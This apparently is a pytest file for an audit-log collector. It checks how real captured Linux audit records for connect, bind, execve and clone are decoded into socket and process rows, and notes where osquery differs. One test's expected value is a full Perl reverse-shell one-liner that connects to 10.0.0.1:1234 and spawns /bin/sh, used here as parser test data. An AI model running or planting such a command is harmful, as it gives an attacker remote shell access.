"""Rows from real captured audit logs (../shared/corpus), values checked against the records.

Every expected value below was read off the record text by hand (the comment says from
where), so these tests fail if decoding, routing or a column's meaning drifts.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from collector.parser import iter_log_records
from collector.protocol._tables import SYSCALLS
from collector.publisher import Event, Publisher
from collector.rows import ProcessEventsRow, Row, SocketEventsRow
from collector.tables import TableOptions, Tables, TableStats

CORPUS = Path(__file__).resolve().parents[1].parent / "shared" / "corpus"

pytestmark = pytest.mark.skipif(not CORPUS.is_dir(), reason=f"public audit corpus not found at {CORPUS}")

EVERYTHING = TableOptions(
    allow_sockets=True,
    allow_process_events=True,
    allow_unix=True,
    allow_fork_process_events=True,
    allow_kill_process_events=True,
)


def corpus_events(rel: str, *, strict: bool = True) -> list[Event]:
    """The events of a corpus file: its lines through the parser and publisher.

    ``strict``: a line the parser rejects fails the test (the files these tests read by name
    parse cleanly); the sweep over every file leaves parser errors to the parser's tests.
    """
    out: list[Event] = []
    pub = Publisher(timeout_ms=2000, on_event=out.append)
    with open(CORPUS / rel, "rb") as f:  # bytes: laurel's 0x1D separators stay inside lines
        for lineno, rec in iter_log_records(f):
            if isinstance(rec, Exception):
                assert not strict, f"{rel}:{lineno}: {rec}"
                continue
            pub.feed(rec)
    pub.flush()
    return out


def corpus_rows(
    rel: str, opts: TableOptions = EVERYTHING, *, strict: bool = True
) -> tuple[list[Row], TableStats]:
    tables = Tables(opts, uptime=None)
    rows = [row for ev in corpus_events(rel, strict=strict) for row in tables.rows_for(ev)]
    return rows, tables.stats


# --- laurel: connect IPv4 succeeded, connect IPv6 -EINPROGRESS --------------------------------


def test_laurel_connect_ipv4_and_ipv6_in_progress() -> None:
    rows, stats = corpus_rows("laurel/record-connect.txt")
    common = {
        "table": "socket_events",
        "action": "connect",
        "pid": 1074252,
        "path": "/usr/bin/php",
        "fd": "8",  # a0=8
        "auid": 4294967295,
        "protocol": 0,
        "local_address": "0",
        "local_port": 0,
        "socket": "",
        "time": 1723819442,
        "uptime": 0,
    }
    assert [r.to_dict() for r in rows] == [
        {
            **common,
            "success": 1,
            "family": 2,
            "remote_address": "127.0.0.1",  # 02002BCB 7F000001
            "remote_port": 11211,  # 0x2BCB
            "eid": "0000000001",
            "status": "succeeded",
        },
        {
            **common,
            "success": 1,  # exit=-115: a non-blocking connect, osquery's in_progress
            "family": 10,
            "remote_address": "0000:0000:0000:0000:0000:0000:0000:0001",  # ::1, osquery's spelling
            "remote_port": 11211,
            "eid": "0000000002",
            "status": "in_progress",
        },
    ]
    assert not stats.drops


# --- laurel: bind from a big-endian (ppc64) task ------------------------------------------------


def test_laurel_bind_ipv4_big_endian() -> None:
    """arch=80000015 (PPC64), syscall 327 = bind; saddr 0002 D903 00000000: the family is
    big-endian (2), port 55555, address 0.0.0.0. osquery reads "00" as the family and drops it.
    """
    rows, stats = corpus_rows("laurel/record-bind-ipv4-bigendian.txt")
    if "ppc64" not in SYSCALLS:
        # no syscall table for the arch: counted, and no row guessed
        assert rows == [] and stats.skipped == {"unsupported_arch": 1}
        pytest.xfail("collector/protocol/_tables.py has no ppc64 syscall table (tools/gen_tables.py)")
    assert [r.to_dict() for r in rows] == [
        {
            "table": "socket_events",
            "action": "bind",
            "pid": 2650,
            "path": "/usr/bin/nc.openbsd",
            "fd": "3",
            "auid": 0,
            "success": 1,
            "family": 2,
            "protocol": 0,
            "local_address": "0.0.0.0",
            "remote_address": "0",
            "local_port": 55555,
            "remote_port": 0,
            "socket": "",
            "time": 1708028025,
            "uptime": 0,
            "eid": "0000000001",
            "status": "succeeded",
        }
    ]


# --- laurel: execve with a split 16 KiB (hex) argument -----------------------------------------


def test_difference_laurel_execve_split_argument_is_joined() -> None:
    """a1_len=16384 then a1[0], a1[1] (first EXECVE record), a1[2] (third record).

    The chunks are hex of 3732 + 3746 + 714 = 8192 bytes: 'b' a...a 'c' | 'd' a...a 'e' |
    'f' a...a 'g'. osquery reads only the first EXECVE record and sorts its keys, so it
    shows a0, then a1[0], then the a1_len value; kaudit joins the argument.
    """
    rows, stats = corpus_rows("laurel/record-execve-long.txt")
    assert len(rows) == 1 and not stats.drops
    row = rows[0]
    assert isinstance(row, ProcessEventsRow)
    prog, arg = row.cmdline.split(" ")
    assert prog == "/bin/echo"
    assert len(arg) == 8192
    assert arg[0] == "b" and arg[-1] == "g"
    assert arg[3731:3733] == "cd"  # end of a1[0], start of a1[1]
    assert arg[7477:7479] == "ef"  # end of a1[1], start of a1[2]
    assert set(arg) == set("abcdefg")
    assert row.cmdline_size == len("/bin/echo ") + 8192
    assert (row.pid, row.parent, row.path, row.cwd) == (8832, 10881, "/usr/bin/echo", "/tmp")
    assert (row.uid, row.gid, row.mode, row.owner_uid, row.owner_gid) == (1000, 1000, "0100755", 0, 0)
    assert row.time == 1615150974


# --- laurel: hex-encoded argument, argument order ----------------------------------------------


def test_difference_laurel_execve_hex_argument_is_decoded() -> None:
    """a2 is hex (it contains spaces and quotes): perl -e '<reverse shell>'.

    osquery decodes hex arguments too, but only in the first EXECVE record and in key order.
    """
    rows, _ = corpus_rows("laurel/record-perl-reverse-shell.txt")
    assert len(rows) == 1
    row = rows[0]
    assert isinstance(row, ProcessEventsRow)
    assert row.cmdline == (
        'perl -e use Socket;$i="10.0.0.1";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
        'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");'
        'open(STDERR,">&S");exec("/bin/sh -i");};'
    )
    assert (row.pid, row.parent, row.cwd, row.uid, row.auid) == (724395, 722076, "/root", 0, 1000)


def test_difference_laurel_execve_cmdline_in_argument_order() -> None:
    """argc=14: a10..a13 come after a9 (osquery's sorted map puts a10..a13 after a1)."""
    rows, _ = corpus_rows("laurel/record-weblogic.txt")
    assert len(rows) == 1
    assert rows[0].cmdline.split(" ") == [  # type: ignore[union-attr]
        "/usr/java/jdk1.8.0_151/bin/java",
        "-server",
        "-Djava.security.egd=file:/dev/./urandom",
        "-cp",
        "/u01/oracle/wlserver/server/lib/weblogic-launcher.jar",
        "-Dlaunch.use.env.classpath=true",
        "-Dweblogic.Name=AdminServer",
        "-Djava.security.policy=/u01/oracle/wlserver/server/lib/weblogic.policy",
        "-Djava.system.class.loader=com.oracle.classloader.weblogic.LaunchClassLoader",
        "-javaagent:/u01/oracle/wlserver/server/lib/debugpatch-agent.jar",
        "-da",
        "-Dwls.home=/u01/oracle/wlserver/server",
        "-Dweblogic.home=/u01/oracle/wlserver/server",
        "weblogic.Server",
    ]
    # PATH item=0: mode=100755 ouid=10 ogid=143 (laurel's log drops the leading 0)
    assert (rows[0].mode, rows[0].owner_uid, rows[0].owner_gid) == ("100755", 10, 143)  # type: ignore[union-attr]


def test_laurel_execve_with_node_prefix() -> None:
    rows, _ = corpus_rows("laurel/record-execve.txt")
    assert [(r.pid, r.path, r.cmdline, r.cwd) for r in rows] == [  # type: ignore[union-attr]
        (10884, "/usr/bin/whoami", "whoami", "/home/user/tmp")
    ]


def test_laurel_aarch64_fork_and_exec() -> None:
    """aarch64 (arch=c00000b7): execve is 221 and clone 220; records arrive PATH first.

    The clone (a0=1200011: no CLONE_THREAD, no CLONE_PARENT) made child 1578541 of 1578540.
    The second execve has argc=1 a0="" and three PATH records in reverse order: mode and
    owner come from item=0 (/bin/true), not from the first PATH line (the loader).
    """
    rows, stats = corpus_rows("laurel/fork-sleep-exec.txt")
    got = [(r.syscall, r.pid, r.parent, r.path, r.cmdline, r.owner_uid) for r in rows]  # type: ignore[union-attr]
    assert got == [
        (
            "execve",
            1578539,
            3822680,
            "/home/user/bin/uncaring-parent",
            "/home/user/bin/uncaring-parent",
            1000,
        ),
        ("clone", 1578541, 1578540, "/home/user/bin/uncaring-parent", "", 0),
        ("execve", 1578540, 1, "/usr/bin/true", "", 0),
    ]
    assert not stats.drops


def test_difference_exec_path_record_is_item_0() -> None:
    """The first execve's PATH records arrive as item=2 (the loader, ouid=0), item=1, item=0
    (the program, ouid=1000, mode 0100775). osquery takes the first to arrive; kaudit item=0.
    """
    rows, _ = corpus_rows("laurel/fork-sleep-exec.txt")
    first = rows[0]
    assert isinstance(first, ProcessEventsRow) and first.syscall == "execve"
    assert (first.mode, first.owner_uid, first.owner_gid) == ("0100775", 1000, 1000)


# --- go-libaudit reassembler/normal.log (no EOE lines: events complete on timeout/flush) ------


def test_go_libaudit_normal_log_rows() -> None:
    rows, stats = corpus_rows("go-libaudit/reassembler/normal.log")
    sockets = [r for r in rows if isinstance(r, SocketEventsRow)]
    procs = [r for r in rows if isinstance(r, ProcessEventsRow)]
    # serial 58: connect -115 to 02000050 A9FEA9FE, exe hex-encoded
    s58 = sockets[0].to_dict()
    assert {
        k: s58[k]
        for k in ("action", "pid", "path", "fd", "remote_address", "remote_port", "status", "success")
    } == {
        "action": "connect",
        "pid": 1172,
        "path": "/usr/bin/python2.7;58d1ccfb (deleted)",
        "fd": "6",
        "remote_address": "169.254.169.254",
        "remote_port": 80,
        "status": "in_progress",
        "success": 1,
    }
    assert s58["time"] == 1492037289
    # serial 61: postfix master connects to the unix socket public/pickup; a0=15 is fd 21
    s61 = sockets[1]
    assert (s61.action, s61.pid, s61.family, s61.socket, s61.fd, s61.status) == (
        "connect",
        1229,
        1,
        "public/pickup",
        "21",
        "succeeded",
    )
    assert len(sockets) == 2
    # serial 62: accept(fd, NULL, NULL) has no SOCKADDR record: no row, counted as skipped
    assert stats.skipped == {"accept_without_address": 1}
    assert [(p.pid, p.parent, p.path, p.cmdline, p.cwd, p.gid) for p in procs] == [
        (13393, 12041, "/usr/bin/grep", "grep --color=auto mapping", "/home/andrew_kroh", 1001),
        (13392, 12041, "/usr/bin/cat", "cat securitybeat", "/home/andrew_kroh", 1001),
    ]
    assert not stats.drops


def test_go_libaudit_unix_connect_needs_allow_unix() -> None:
    opts = TableOptions(allow_sockets=True, allow_process_events=False)
    rows, stats = corpus_rows("go-libaudit/reassembler/normal.log", opts)
    assert [r.socket for r in rows] == [""]  # type: ignore[union-attr]
    assert stats.skipped["unix_disabled"] == 1


# --- every corpus file -------------------------------------------------------------------------


def _corpus_files() -> list[str]:
    if not CORPUS.is_dir():
        return []
    return sorted(
        str(p.relative_to(CORPUS))
        for p in CORPUS.rglob("*")
        if p.suffix in (".log", ".txt") and not p.name.startswith("LICENSE")
    )


@pytest.mark.parametrize("rel", _corpus_files())
def test_every_corpus_file_makes_rows_without_error(rel: str) -> None:
    """No exception, eids dense from 1, and every row's values typed as its columns say."""
    rows, stats = corpus_rows(rel, strict=False)
    assert [r.eid for r in rows] == [f"{i:010d}" for i in range(1, len(rows) + 1)]
    for r in rows:
        for col, typ in type(r).COLUMN_TYPES.items():
            value = getattr(r, col)
            assert isinstance(value, str if typ == "TEXT" else int), (rel, col, value)
    assert sum(stats.rows.values()) == len(rows)
